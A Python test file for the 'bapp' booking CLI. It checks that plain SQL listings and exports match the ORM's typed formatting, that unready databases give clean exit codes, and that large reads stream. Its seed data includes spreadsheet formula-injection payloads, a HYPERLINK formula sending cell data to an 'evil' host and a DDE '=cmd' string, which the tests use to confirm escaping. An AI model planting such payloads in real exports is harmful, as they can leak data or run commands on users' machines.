"""The plain reads (db/dbapi.py, services/plain_reads.py): `bookings list` and `export bookings` get their
cells as text from the database, on both backends, and must write exactly what bapp's typed formatting
(`instant_text`, money, `services.spreadsheet`) writes for the same bookings read through the ORM. Also:
the commands load no SQLAlchemy, and a database that is not ready is exit 5 (bad URL exit 4), never a
traceback."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select, text, update
from sqlalchemy.orm import Session

from bapp_cli.db.engine import make_engine
from bapp_cli.db.models import Booking, Pathway, SessionType, User
from bapp_cli.services.plain_reads import BOOKING_COLUMNS
from bapp_cli.services.spreadsheet import cell_text, json_default
from tests.conftest import Bapp

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
EDGES = [  # start instants with and without microseconds, and offsets that land on the same UTC day
    dt.datetime(2031, 3, 3, 10, 0, tzinfo=dt.UTC),
    dt.datetime(2031, 3, 3, 10, 0, 0, 1, tzinfo=dt.UTC),
    dt.datetime(2031, 12, 31, 23, 59, 59, 999999, tzinfo=dt.timezone(dt.timedelta(hours=-5))),
]


def _seed(bapp: Bapp) -> list[str]:
    """Bookings with formula-looking and unicode names, unicode answers, edge instants; their references."""
    for step in (
        ("import", "all", str(EXAMPLES / "catalog.toml")),
        ("calendly", "sync", "--from-file", str(EXAMPLES / "calendly" / "event_types.json")),
        ("import", "clients", str(EXAMPLES / "clients.csv")),
        ("import", "bookings", str(EXAMPLES / "bookings.csv")),
    ):
        result = bapp(*step, "--format", "tsv")
        assert result.exit_code == 0, (step, result.stderr)
    engine = make_engine(bapp.database_url)
    with Session(engine) as session:
        references = list(session.scalars(Booking.__table__.select().with_only_columns(Booking.reference)))
        bookings = list(session.scalars(Booking.__table__.select().with_only_columns(Booking.id)))
        names = ['=HYPERLINK("http://evil/?"&A1,"Click")', "Zoë ‘Ünïcode’ 漢字", "''-5"]
        for index, (booking_id, start) in enumerate(zip(bookings, EDGES, strict=False)):
            session.execute(
                update(Booking)
                .where(Booking.id == booking_id)
                .values(
                    start_time=start,
                    end_time=start + dt.timedelta(minutes=30),
                    amount=Decimal("5.5") if index == 2 else Decimal("12.30"),
                    custom_question_responses=[{"question": "Qué?", "answer": "=1+1 ✓\u0001", "position": 0}],
                )
            )
            client_id = session.scalar(
                Booking.__table__.select().with_only_columns(Booking.client_id).where(Booking.id == booking_id)
            )
            session.execute(update(User).where(User.id == client_id).values(name=names[index]))
        session.commit()
    engine.dispose()
    return references


def _expected(bapp: Bapp) -> list[dict[str, object]]:
    """The typed records, built from the ORM's objects (not the plain SQL), in the listing's order."""
    engine = make_engine(bapp.database_url)
    records = []
    with Session(engine) as session:
        for booking in session.scalars(select(Booking)):
            client, kind = session.get(User, booking.client_id), session.get(SessionType, booking.session_type_id)
            builder = session.get(User, booking.builder_id) if booking.builder_id else None
            pathway = session.get(Pathway, booking.pathway_id) if booking.pathway_id else None
            joined = {
                "client": client and client.email,
                "client_name": client and client.name,
                "builder": builder and builder.email,
                "session_id": booking.session_type_id,
                "session_title": kind and kind.title,
                "category": kind and kind.category,
                "pathway": pathway and pathway.slug,
            }
            record = {name: joined.get(name, getattr(booking, name, None)) for name in BOOKING_COLUMNS}
            records.append((booking.start_time, booking.id, record))
    engine.dispose()
    return [record for *_, record in sorted(records, key=lambda item: item[:2])]  # by start, then id


def test_bookings_list_and_export_write_what_the_typed_formatting_writes(bapp: Bapp) -> None:
    _seed(bapp)
    expected = _expected(bapp)
    as_json = json.loads(json.dumps(expected, default=json_default, ensure_ascii=False))
    assert bapp("bookings", "list", "--format", "json").json() == as_json
    lines = bapp("bookings", "list", "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line) for line in lines] == as_json
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        text = bapp("bookings", "list", "--format", fmt).stdout
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        assert rows[0] == list(BOOKING_COLUMNS)
        assert rows[1:] == [[cell_text(record[name]) for name in BOOKING_COLUMNS] for record in expected]
    # the rows compared above hold the edge cases: formula-looking and unicode names, a control character,
    # instants with microseconds and one given at an offset, an amount with one decimal
    formulas = [record["client_name"] for record in expected if str(record["client_name"])[:1] in ("=", "'")]
    assert formulas and all(cell_text(name).startswith("'") for name in formulas)
    assert any(record["start_time"] == EDGES[2] for record in expected)
    cells = bapp("bookings", "list", "--format", "csv").stdout
    assert "2031-03-03T10:00:00.000001Z" in cells and "2032-01-01T04:59:59.999999Z" in cells and ",5.50," in cells
    assert "=1+1 ✓\\u0001" in cells
    # the export: the same cells, one writer for every format; --raw leaves the text as stored
    exported = list(csv.DictReader(io.StringIO(bapp("export", "bookings", "--format", "csv").stdout)))
    assert [row["start_time"] for row in exported] == [cell_text(record["start_time"]) for record in expected]
    assert [row["client_name"] for row in exported] == [cell_text(record["client_name"]) for record in expected]
    raw = list(csv.DictReader(io.StringIO(bapp("export", "bookings", "--format", "csv", "--raw").stdout)))
    assert [row["client_name"] for row in raw] == [record["client_name"] or "" for record in expected]
    exported_json = bapp("export", "bookings", "--format", "json").json()
    assert [row["custom_question_responses"] for row in exported_json] == [
        record["custom_question_responses"] for record in as_json
    ]


def test_filters_pages_and_empty_results(bapp: Bapp) -> None:
    _seed(bapp)
    every = bapp("bookings", "list", "--format", "json").json()
    assert len(every) > 3
    page = bapp("bookings", "list", "--limit", "2", "--offset", "1", "--format", "json").json()
    assert page == every[1:3]
    assert bapp("bookings", "list", "--offset", "2", "--format", "json").json() == every[2:]
    found = bapp("bookings", "list", "--search", "ZOë", "--format", "json").json()
    assert found and found == [row for row in every if row["client_name"] == "Zoë ‘Ünïcode’ 漢字"]
    assert bapp("bookings", "list", "--search", "%", "--format", "json").json() == []  # % matches itself
    client = every[0]["client"]
    mine = bapp("bookings", "list", "--client", client.upper(), "--format", "json").json()
    assert mine and all(row["client"] == client for row in mine)
    assert (
        bapp("bookings", "list", "--from", "2999-01-01", "--format", "csv").stdout == ",".join(BOOKING_COLUMNS) + "\n"
    )
    assert bapp("bookings", "list", "--pathway", "none", "--format", "json").json() == [
        row for row in every if row["pathway"] is None
    ]
    late = bapp("bookings", "list", "--from", "2031-03-03T10:00:00.000001Z", "--format", "json").json()
    assert late == [row for row in every if dt.datetime.fromisoformat(row["start_time"]) >= EDGES[1]]
    for args, code in (
        (("--client", "nobody@example.com"), 7),
        (("--client", "not an address"), 6),
        (("--status", "lost"), 2),  # a bad flag value is a usage error (CLI.md), refused before the database is read
        (("--pathway", "nowhere"), 7),
        (("--session", "99999999999"), 7),
    ):
        result = bapp("bookings", "list", *args, "--format", "json")
        assert result.exit_code == code, (args, result.stderr)
        assert "Traceback" not in result.stderr


def test_bookings_at_the_same_start_go_in_the_order_they_were_recorded(bapp: Bapp) -> None:
    _seed(bapp)
    engine = make_engine(bapp.database_url)
    with Session(engine) as session:
        ids = sorted(session.scalars(select(Booking.id)))[:3]
        start = dt.datetime(2040, 1, 1, 9, tzinfo=dt.UTC)
        # references against the id order, so a tie-break by reference would show them reversed
        for booking_id, reference in zip(ids, ("BK-TIE3", "BK-TIE2", "BK-TIE1"), strict=True):
            values = {"start_time": start, "end_time": start + dt.timedelta(minutes=30), "reference": reference}
            session.execute(update(Booking).where(Booking.id == booking_id).values(**values))
        session.commit()
    engine.dispose()
    recorded = ["BK-TIE3", "BK-TIE2", "BK-TIE1"]
    listed = bapp("bookings", "list", "--from", "2040-01-01", "--format", "json").json()
    assert [row["reference"] for row in listed] == recorded
    exported = list(csv.DictReader(io.StringIO(bapp("export", "bookings", "--format", "csv").stdout)))
    assert [row["reference"] for row in exported if row["reference"].startswith("BK-TIE")] == recorded


def test_reads_load_no_sqlalchemy(bapp: Bapp) -> None:
    _seed(bapp)
    email = bapp("bookings", "list", "--format", "json").json()[0]["client"]
    commands = [
        ["bookings", "list", "--limit", "50"],
        ["bookings", "list", "--client", email, "--format", "csv"],
        ["export", "bookings", "--format", "csv"],
        ["sessions", "list", "--all"],
        ["clients", "show", email],
        ["clients", "show", email, "--format", "csv"],
        ["progress", "show", email, "--json"],
        ["clients", "list", "--pathway", "accelerate", "--format", "csv"],
        ["builders", "list"],
        ["pathways", "list", "--json"],
        ["pathways", "show", "accelerate"],
        ["skills", "list", "--pathway", "accelerate", "--tier", "1"],
        ["sessions", "show", "1", "--json"],
        ["bookings", "show", bapp("bookings", "list", "--format", "json").json()[0]["reference"]],
    ]
    # One process runs the commands in turn, as `bapp` would one each, and after each lists which of these its
    # modules hold: none of them loaded, each command is seen to load none (a process each cost ~0.5 CPU s)
    probe = (
        "import json, sys; from bapp_cli.cli.launcher import main\n"
        "for args in json.loads(sys.argv[1]):\n"
        "    sys.argv = ['bapp', *args]\n"
        "    try:\n        main()\n    except SystemExit as done:\n        code = done.code\n"
        "    sys.stdout.flush()\n"
        "    loaded = sorted(m for m in ('sqlalchemy', 'pydantic', 'rich', 'alembic') if m in sys.modules)\n"
        "    print('probe:', json.dumps([args, code or 0, loaded]), file=sys.stderr)"
    )
    lines = _python(bapp, probe, json.dumps(commands)).splitlines()
    reports = [json.loads(line.removeprefix("probe: ")) for line in lines if line.startswith("probe: ")]
    assert reports == [[args, 0, []] for args in commands], reports


def _python(bapp: Bapp, script: str, *args: str) -> str:
    import subprocess
    import sys

    completed = subprocess.run(
        [sys.executable, "-c", script, *args], env=bapp._environment(None), capture_output=True, text=True, timeout=120
    )
    assert completed.returncode == 0, completed.stderr
    return completed.stderr


def test_database_not_ready_is_exit_5_and_a_bad_url_exit_4(bapp: Bapp, tmp_path: Path) -> None:
    missing = bapp("bookings", "list", env={"BAPP_DATABASE_URL": f"sqlite:///{tmp_path}/missing.db"})
    assert missing.exit_code == 5 and "does not exist" in missing.stderr
    empty = tmp_path / "empty.db"
    sqlite3.connect(empty).close()
    unmigrated = bapp("bookings", "list", env={"BAPP_DATABASE_URL": f"sqlite:///{empty}"})
    assert unmigrated.exit_code == 5 and "no schema yet" in unmigrated.stderr
    garbage = tmp_path / "garbage.db"
    garbage.write_bytes(b"not a database at all" * 100)
    broken = bapp("export", "bookings", "--format", "csv", env={"BAPP_DATABASE_URL": f"sqlite:///{garbage}"})
    assert broken.exit_code == 5 and "not a SQLite database" in broken.stderr
    newer = tmp_path / "newer.db"
    with sqlite3.connect(newer) as connection:
        connection.execute("CREATE TABLE alembic_version (version_num VARCHAR(32))")
        connection.execute("INSERT INTO alembic_version VALUES ('9999_from_the_future')")
    future = bapp("bookings", "list", env={"BAPP_DATABASE_URL": f"sqlite:///{newer}"})
    assert future.exit_code == 5 and "newer bapp" in future.stderr
    bad = bapp("bookings", "list", env={"BAPP_DATABASE_URL": "mysql://somewhere/db"})
    assert bad.exit_code == 4
    for command in (("clients", "show", "ada@example.com"), ("progress", "show", "ada@example.com")):
        assert bapp(*command, env={"BAPP_DATABASE_URL": f"sqlite:///{empty}"}).exit_code == 5
        assert bapp(*command, env={"BAPP_DATABASE_URL": f"sqlite:///{tmp_path}/missing.db"}).exit_code == 5
        assert bapp(*command, env={"BAPP_DATABASE_URL": "mysql://somewhere/db"}).exit_code == 4
    unreachable = bapp(
        "sessions",
        "list",
        env={"BAPP_DATABASE_URL": "postgresql://nobody:pw@127.0.0.1:1/none", "BAPP_CONNECT_TIMEOUT": "2"},
    )
    assert unreachable.exit_code == 5 and unreachable.stderr.startswith("Error: cannot reach the database")
    assert ":pw@" not in unreachable.stderr
    for result in (missing, unmigrated, broken, future, bad, unreachable):
        assert "Traceback" not in result.stderr


def test_sessions_list_writes_the_session_records(bapp: Bapp) -> None:
    """Every format and filter of `sessions list` against the records built here from the ORM's rows."""
    from bapp_cli.db.models import SessionTypePathway
    from bapp_cli.errors import InvalidInput
    from bapp_cli.services.session_types import SESSION_COLUMNS, check_bookable

    def is_bookable(item: SessionType) -> bool:  # the rule over a loaded row, which the SQL must agree with
        try:
            check_bookable(item, None, None)
        except InvalidInput:
            return False
        return True

    def orm_record(session: Session, item: SessionType) -> dict[str, object]:
        linked = select(Pathway.slug).join(SessionTypePathway, SessionTypePathway.pathway_id == Pathway.id)
        derived = {
            "bookable": is_bookable(item),
            "pathways": list(
                session.scalars(
                    linked.where(SessionTypePathway.session_type_id == item.id).order_by(Pathway.position, Pathway.slug)
                )
            ),
            "builder": session.scalar(select(User.email).where(User.id == item.builder_id)),
        }
        return {name: derived[name] if name in derived else getattr(item, name) for name in SESSION_COLUMNS}

    _seed(bapp)
    for step in (
        ("builders", "add", "priya@coach.example", "--name", "Priya"),
        ("sessions", "add", "--title", "=cmd|' /C calc'!A0", "--duration", "30", "--category", "free",
         "--builder", "priya@coach.example", "--price", "12.5"),
        ("sessions", "update", "accelerate-foundation-coaching", "--pathway", "pivot", "--display-order", "2"),
        ("sessions", "update", "free-discovery-call", "--disable"),
    ):  # fmt: skip
        result = bapp(*step, "--format", "tsv")
        assert result.exit_code == 0, (step, result.stderr)
    engine = make_engine(bapp.database_url)
    with Session(engine) as session:
        expected = {item.id: orm_record(session, item) for item in session.scalars(select(SessionType))}
    engine.dispose()
    listed = bapp("sessions", "list", "--all", "--format", "json").json()
    assert sorted(record["id"] for record in listed) == sorted(expected)
    assert listed == json.loads(json.dumps([expected[record["id"]] for record in listed], default=json_default))
    bookable = [record for record in listed if record["bookable"]]
    assert bapp("sessions", "list", "--format", "json").json() == bookable and len(bookable) < len(listed)
    text = bapp("sessions", "list", "--all", "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1:] == [[cell_text(expected[record["id"]][name]) for name in rows[0]] for record in listed]
    assert "'=cmd|" in text
    assert bapp("sessions", "list", "--all", "--limit", "2", "--offset", "1", "--format", "json").json() == listed[1:3]
    linked = bapp("sessions", "list", "--all", "--pathway", "PIVOT", "--format", "json").json()
    assert linked and all("pivot" in record["pathways"] for record in linked)
    mine = bapp("sessions", "list", "--all", "--builder", "priya@coach.example", "--format", "json").json()
    assert [record["title"] for record in mine] == ["=cmd|' /C calc'!A0"]
    free = bapp("sessions", "list", "--all", "--category", "FREE", "--format", "json").json()
    assert free == [record for record in listed if record["category"] == "free"]
    assert bapp("sessions", "list", "--all", "--search", "zzz-nothing", "--format", "json").json() == []
    # a category not among them is a bad flag value: a usage error (CLI.md)
    for args, code in ((("--category", "paid"), 2), (("--pathway", "nowhere"), 7), (("--builder", "x@y.example"), 7)):
        result = bapp("sessions", "list", *args, "--format", "json")
        assert result.exit_code == code and "Traceback" not in result.stderr, (args, result.stderr)


# the child's own peak, from /proc (VmHWM) as it exits: getrusage's would carry the forking test process's
_PEAK_PROBE = (
    "import atexit, sys\nfrom bapp_cli.cli.launcher import main\nsys.argv = ['bapp', *sys.argv[1:]]\n"
    "atexit.register(lambda: print(open('/proc/self/status').read().split('VmHWM:')[1].split()[0], file=sys.stderr))\n"
    "main()"
)
# a streamed read holds a batch (BATCH_SIZE rows) at a time: from more than one batch to many more, its peak stays put
_BATCHED_ROWS, _WIDE_ROWS = 2_000, 12_000


def _peak_mb(bapp: Bapp, *args: str) -> float:
    return int(_python(bapp, _PEAK_PROBE, *args).splitlines()[-1]) / 1024


def _add_wide_clients(database_url: str, last: int) -> None:
    """Clients numbered up to `last` that are not there yet, each with a profile and a booking: some 600 bytes of
    text a row, one INSERT … SELECT a table."""
    engine = make_engine(database_url)
    stored = "2030-01-01 {}+00" if engine.dialect.name == "postgresql" else "2030-01-01 {}.000000"
    at, end, filler = stored.format("00:00:00"), stored.format("00:30:00"), "x" * 180
    with engine.begin() as connection:
        for statement in (
            f"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {last}) "
            "INSERT INTO users (email, name, created_at, updated_at) "
            f"SELECT 'client' || i || '@wide.example', 'Client {filler}' || i, :at, :at FROM n "
            "WHERE i > (SELECT count(*) FROM users)",
            "INSERT INTO client_profiles (user_id, company, industry, created_at) "
            f"SELECT id, 'Company {filler}' || id, 'Industry {filler}' || id, :at FROM users "
            "WHERE id NOT IN (SELECT user_id FROM client_profiles)",
            "INSERT INTO session_types (slug, title, duration_minutes, kind, is_secret, remote_active, "
            "present_in_last_sync, enabled, created_at, updated_at) "
            "SELECT 'wide', 'Wide', 30, 'solo', false, true, true, true, :at, :at "
            "WHERE NOT EXISTS (SELECT 1 FROM session_types)",
            "INSERT INTO bookings (reference, client_id, session_type_id, start_time, end_time, client_timezone, "
            "status, payment_status, amount, currency, custom_question_responses, source, calendly_attempts, "
            "created_at, updated_at) SELECT 'BK-' || id, id, (SELECT id FROM session_types), :at, :end, 'UTC', "
            "'confirmed', 'not_required', 0, 'GBP', '[]', 'cli', 0, :at, :at FROM users "
            "WHERE id NOT IN (SELECT client_id FROM bookings)",
        ):
            connection.execute(text(statement), {"at": at, "end": end})
    engine.dispose()


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads the peak from /proc: Linux only")
def test_listings_and_exports_stream_their_rows(bapp: Bapp, tmp_path: Path) -> None:
    """On PostgreSQL psycopg's cursor took a plain read's whole result into memory before its first row was
    written: `export clients` of 300,000 clients peaked at 138 MB, `clients list` at 99 MB (78 and 46 MB fetched a
    batch at a time from a server-side cursor); `export bookings` and `bookings list` of 100,000 bookings at 129 and
    116 MB (49 MB each). Here each command's peak over 2,000 clients with a booking each (a batch and more), and
    again over 12,000, some 600 bytes of text a row: the old code held 6–7 MB more for 8,000 more rows (~25 MB for
    30,000 over none); a streamed read ~1 MB at most, as a batch's rows take as much room for either. Both doors:
    the plain connection (the lists, `export bookings`) and an ORM session's (`export clients`)."""
    out = str(tmp_path / "out.csv")
    commands = [(*listing, "--format", "csv") for listing in (("clients", "list"), ("bookings", "list"))]
    commands += [("export", kind, "--format", "csv", "-o", out) for kind in ("clients", "bookings")]
    _add_wide_clients(bapp.database_url, _BATCHED_ROWS)
    batched = [_peak_mb(bapp, *command) for command in commands]
    _add_wide_clients(bapp.database_url, _WIDE_ROWS)
    grown = {command[:2]: _peak_mb(bapp, *command) - before for command, before in zip(commands, batched, strict=True)}
    assert all(megabytes < 4 for megabytes in grown.values()), grown
    with open(out, encoding="utf-8") as written:  # the bookings, a row each
        assert sum(1 for _ in written) == _WIDE_ROWS + 1


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)  # SQLite's cursor has no such round trips
def test_a_page_that_fits_a_batch_is_read_without_a_server_side_cursor(
    bapp: Bapp, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A streamed read's server-side cursor costs round trips of its own (DECLARE, a FETCH per batch and one that
    comes back empty, CLOSE: four statements for one): `clients show`'s ten recent bookings and a `--limit 50` page,
    which fit one batch, were read through one all the same. Only a listing that may hold more takes one."""
    import psycopg

    _seed(bapp)
    client = next(csv.DictReader(io.StringIO(bapp("bookings", "list", "--format", "csv").stdout)))["client"]
    declared: list[str] = []
    execute = psycopg.ServerCursor.execute

    def declare(cursor: psycopg.ServerCursor, query: str, *args: object, **options: object) -> object:
        declared.append(query)
        return execute(cursor, query, *args, **options)

    monkeypatch.setattr(psycopg.ServerCursor, "execute", declare)
    pages = (("clients", "show", client), ("clients", "list", "--limit", "50"), ("bookings", "list", "--limit", "5"))
    for command in pages:
        result = bapp(*command, "--json")
        assert result.exit_code == 0 and result.json(), result.stderr
        assert declared == [], (command, declared)
    for listing in (("clients", "list"), ("bookings", "list"), ("bookings", "list", "--limit", "1001")):
        assert bapp(*listing, "--json").exit_code == 0
    assert len(declared) == 3, declared  # the whole listings, and a page larger than a batch, still stream


def test_clients_show_writes_what_the_orm_rows_hold(bapp: Bapp) -> None:
    """`clients show` on the plain connection, in every format, against records built here from the ORM's
    rows: the profile, each enrolment's percent (completed ÷ linked non-archived skills, counted in Python),
    the ten newest bookings, the badges with their catalogue names."""
    from bapp_cli.db.models import (
        Badge,
        ClientProfile,
        Enrolment,
        PathwayTier,
        Skill,
        SkillPathwayLink,
        UserSkillProgress,
    )

    _seed(bapp)
    email = _expected(bapp)[0]["client"]
    for step in (
        ("clients", "enroll", email, "accelerate"),
        ("clients", "enroll", email, "pivot"),
        ("skills", "assign", email, "--pathway", "accelerate", "--tier", "1", "--status", "completed"),
        ("skills", "complete", email, "responsible-ai"),
        ("skills", "archive", "critical-evaluation", "--yes"),  # the last fundamental left: the badge follows
    ):
        result = bapp(*step, "--format", "tsv")
        assert result.exit_code == 0, (step, result.stderr)
    engine = make_engine(bapp.database_url)
    with Session(engine) as session:
        user = session.scalars(select(User).where(User.email == email)).one()
        profile = session.scalars(select(ClientProfile).where(ClientProfile.user_id == user.id)).one()
        done = set(
            session.scalars(
                select(UserSkillProgress.skill_id).where(
                    UserSkillProgress.client_id == user.id, UserSkillProgress.status == "completed"
                )
            )
        )
        enrolments = []
        for enrolment, pathway in session.execute(
            select(Enrolment, Pathway)
            .join(Pathway, Pathway.id == Enrolment.pathway_id)
            .where(Enrolment.client_id == user.id)
            .order_by(Pathway.position, Pathway.slug)
        ):
            linked = session.scalars(
                select(Skill.id)
                .join(SkillPathwayLink, SkillPathwayLink.skill_id == Skill.id)
                .where(SkillPathwayLink.pathway_id == pathway.id, Skill.archived.is_(False))
            ).all()
            completed = len(done.intersection(linked))
            builder = session.get(User, enrolment.builder_id) if enrolment.builder_id else None
            enrolments.append(
                {
                    "pathway": pathway.slug,
                    "status": enrolment.status,
                    "start_date": enrolment.start_date,
                    "completed_at": enrolment.completed_at,
                    "builder": builder and builder.email,
                    "percent": completed * 100 // len(linked) if linked else 0,
                }
            )
        tier_names = {
            (tier.pathway_id, tier.tier): f"{pathway.name} · {tier.name}"
            for tier, pathway in session.execute(select(PathwayTier, Pathway).join(Pathway))
        }
        slugs = {pathway.slug: pathway.id for pathway in session.scalars(select(Pathway))}
        badges = []
        for badge in session.scalars(select(Badge).where(Badge.client_id == user.id).order_by(Badge.awarded_at)):
            kind, _, rest = badge.key.partition(":")
            slug, _, tier = rest.partition(":")
            name = tier_names[(slugs[slug], int(tier))] if kind == "tier" else "Fundamentals"
            record = {"key": badge.key, "name": name, "awarded_at": badge.awarded_at}
            badges.append(record | {"revoked_at": badge.revoked_at})
        expected = {
            "email": user.email,
            "name": user.name,
            "company": profile.company,
            "industry": profile.industry,
            "created_at": profile.created_at,
            "enrolments": enrolments,
            # newest first: the listing's order reversed (equal starts by id, the last recorded first)
            "bookings": [record for record in reversed(_expected(bapp)) if record["client"] == email][:10],
            "badges": badges,
        }
    engine.dispose()
    # what the test set out to hold: two enrolments, one partly done, a tier badge and the fundamentals one
    assert len(enrolments) == 2 and all(0 < item["percent"] < 100 for item in enrolments)
    assert [badge["key"] for badge in badges] == ["tier:accelerate:1", "fundamentals"] and expected["bookings"]
    as_json = json.loads(json.dumps(expected, default=json_default, ensure_ascii=False))
    assert bapp("clients", "show", email.upper(), "--format", "json").json() == as_json
    assert [json.loads(bapp("clients", "show", email, "--format", "jsonl").stdout)] == [as_json]
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        rows = list(
            csv.reader(io.StringIO(bapp("clients", "show", email, "--format", fmt).stdout), delimiter=delimiter)
        )
        assert rows == [list(expected), [cell_text(value) for value in expected.values()]]
    table = bapp("clients", "show", email, "--format", "table", env={"COLUMNS": "200"}).stdout
    assert "Badges: " + ", ".join(badge["name"] for badge in badges) in table
    assert all(f"{item['percent']}%" in table for item in enrolments)
    for args, code in ((("ghost@example.com",), 7), (("not an address",), 6)):
        result = bapp("clients", "show", *args)
        assert result.exit_code == code and "Traceback" not in result.stderr, (args, result.stderr)


def test_the_catalogue_and_people_listings_write_what_the_orm_rows_hold(bapp: Bapp) -> None:
    """`clients list`, `builders list`, `pathways list/show`, `skills list`, `sessions show` and `bookings show`
    on the plain connection, in JSON and CSV, against records built here from the ORM's rows: the same keys, the
    same value types (ints, booleans, instants, null) and the same order."""
    from bapp_cli.db.models import BuilderProfile, ClientProfile, PathwayTier, Skill, SkillPathwayLink

    _seed(bapp)
    for step in (
        ("builders", "add", "coach@example.com", "--name", "=Coach", "--buffer", "15", "--max-advance", "30"),
        ("builders", "add", "quiet@example.com", "--calendly-user", "https://api.calendly.com/users/Q"),
        ("builders", "update", "quiet@example.com", "--not-accepting"),
        ("clients", "enroll", _expected(bapp)[0]["client"], "accelerate", "--builder", "coach@example.com"),
        ("skills", "archive", "critical-evaluation", "--yes"),
        ("pathways", "archive", "play", "--yes"),
    ):
        result = bapp(*step, "--format", "tsv")
        assert result.exit_code == 0, (step, result.stderr)
    engine = make_engine(bapp.database_url)
    with Session(engine) as session:
        clients = [
            {"email": user.email, "name": user.name, "company": profile.company, "industry": profile.industry}
            | {"created_at": profile.created_at}
            for user, profile in session.execute(select(User, ClientProfile).join(ClientProfile).order_by(User.email))
        ]
        builders = [
            {"email": user.email, "name": profile.display_name or user.name, "calendly_user": profile.calendly_user_uri}
            | {name: getattr(profile, name) for name in ("timezone", "buffer_minutes", "minimum_notice_hours")}
            | {name: getattr(profile, name) for name in ("max_advance_days", "accepting_bookings", "created_at")}
            for user, profile in session.execute(select(User, BuilderProfile).join(BuilderProfile).order_by(User.email))
        ]
        linked = session.execute(
            select(SkillPathwayLink.pathway_id, SkillPathwayLink.tier, Skill.slug, Skill.id)
            .join(Skill)
            .order_by(Skill.slug)
        ).all()
        pathways = [
            {name: getattr(pathway, name) for name in ("slug", "name", "description", "icon", "color", "position")}
            | {"archived": pathway.archived}
            | {
                "tiers": [
                    {"tier": tier.tier, "name": tier.name, "description": tier.description}
                    | {"skills": [row.slug for row in linked if row[:2] == (pathway.id, tier.tier)]}
                    for tier in session.scalars(
                        select(PathwayTier).where(PathwayTier.pathway_id == pathway.id).order_by(PathwayTier.tier)
                    )
                ]
            }
            for pathway in session.scalars(select(Pathway).order_by(Pathway.position, Pathway.slug))
        ]
        archived = set(session.scalars(select(Skill.slug).where(Skill.archived)))
        for pathway in pathways:
            for tier in pathway["tiers"]:
                tier["skills"] = [slug for slug in tier["skills"] if slug not in archived]
        order = {pathway.id: (pathway.position, pathway.slug) for pathway in session.scalars(select(Pathway))}
        slugs = {pathway.id: pathway.slug for pathway in session.scalars(select(Pathway))}
        skills = [
            {name: getattr(skill, name) for name in ("slug", "name", "description", "domain", "is_fundamental")}
            | {"archived": skill.archived}
            | {
                "links": [
                    f"{slugs[p]}:{t}" for p, t, _, key in sorted(linked, key=lambda r: order[r[0]]) if key == skill.id
                ]
            }
            for skill in session.scalars(select(Skill).where(Skill.archived.is_(False)).order_by(Skill.slug))
        ]
        booking = session.scalars(select(Booking).order_by(Booking.id)).first()
        assert booking is not None
        reference, cancellation = booking.reference, {"cancellation_reason": None, "cancelled_at": None}
    engine.dispose()
    # what the test set out to hold: a builder with no limit and one not accepting, an archived pathway and skill
    assert [builder["max_advance_days"] for builder in builders] == [30, None]
    assert builders[1]["accepting_bookings"] is False and any(pathway["archived"] for pathway in pathways)
    for args, expected in (
        (("clients", "list"), clients),
        (("builders", "list"), builders),
        (("pathways", "list"), pathways),
        (("skills", "list"), skills),
    ):
        as_json = json.loads(json.dumps(expected, default=json_default, ensure_ascii=False))
        assert bapp(*args, "--format", "json").json() == as_json, args
        rows = list(csv.reader(io.StringIO(bapp(*args, "--format", "csv").stdout)))
        assert rows == [list(expected[0]), *([cell_text(value) for value in record.values()] for record in expected)]
    shown = json.loads(json.dumps(pathways[0], default=json_default, ensure_ascii=False))
    assert bapp("pathways", "show", pathways[0]["slug"].upper(), "--format", "json").json() == shown
    assert bapp("sessions", "show", "1", "--json").json() == bapp("sessions", "list", "--all", "--json").json()[0]
    listed = next(row for row in _expected(bapp) if row["reference"] == reference)
    expected_booking = json.loads(json.dumps(listed | cancellation, default=json_default, ensure_ascii=False))
    assert bapp("bookings", "show", reference.lower(), "--json").json() == expected_booking
